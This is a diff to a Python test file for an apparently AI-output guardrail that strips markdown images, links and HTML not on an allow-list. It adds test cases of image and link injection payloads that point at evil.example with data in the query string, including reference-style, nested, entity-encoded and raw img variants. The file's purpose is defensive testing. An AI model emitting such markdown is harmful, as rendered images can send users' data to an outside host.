@@ -230,9 +230,30 @@ def test_markdown_keeps_allowed_links_and_strips_images_other_links_and_html() -
     ok = "See [the guidance](https://www.gov.uk/ai) and <https://gov.uk/x>."
     assert rail.check(ok, out).verdict == "pass"
     d = rail.check("![x](https://evil.example/p.png?q=secret) Read [this](http://evil.example) or "
-                   "https://evil.example/a <script>alert(1)</script>done", out)
-    assert d.verdict == "fail" and d.text == "x Read this or [link removed] alert(1)done"
-    assert d.detail == "removed image×1, link×2, html×2"
+                   "https://evil.example/a <script>alert(1)</script>done [1].", out)
+    assert d.verdict == "fail" and d.text == "x Read this or (link removed) alert(1)done [1]."
+    assert d.detail == "removed image×1, link×1, bare-link×1, html×2"
+
+
+@pytest.mark.parametrize("attack", [
+    "Look ![a\\]b](https://evil.example/p.png?d=1) here.",  # an escaped bracket in the alt text
+    "Look ![logo][pic] here.\n\n[pic]: https://evil.example/p.png?d=1",  # reference-style
+    "Look ![logo][] here.\n\n[logo]: <https://evil.example/p.png?d=1> \"t\"",
+    "Look [![x](https://evil.example/p.png?d=1)](https://www.gov.uk) here.",  # an image inside an allowed link
+    "Look <img src=\"https://evil.example/p.png?d=1\"> here.",
+    "Look &#33;[x](https://evil.example/p.png?d=1) here.",  # an entity that reads as "!"
+    "Look [x](<https://evil.example/p.png?d=1>) here.",
+    "Look\n\n<div><img src=https://evil.example/p.png></div>\n\nhere.",
+])
+def test_markdown_finds_what_a_commonmark_parser_renders_not_what_a_regex_sees(attack: str) -> None:
+    from guardrails.markdown import _parser
+    from guardrails.rails.output import Markdown, MarkdownParams
+
+    rail = Markdown(MarkdownParams(allowed_domains=["gov.uk"]), NO_TOOLS)
+    d = rail.check(attack, Context("output"))
+    assert d.verdict == "fail" and d.text is not None and "Look" in d.text and "here" in d.text
+    rendered = _parser(True).render(d.text)  # what a renderer makes of the cleaned text
+    assert "evil.example" not in rendered and "<img" not in rendered, rendered
 
 
 def test_disclaimer_is_added_once_in_the_askers_language() -> None:
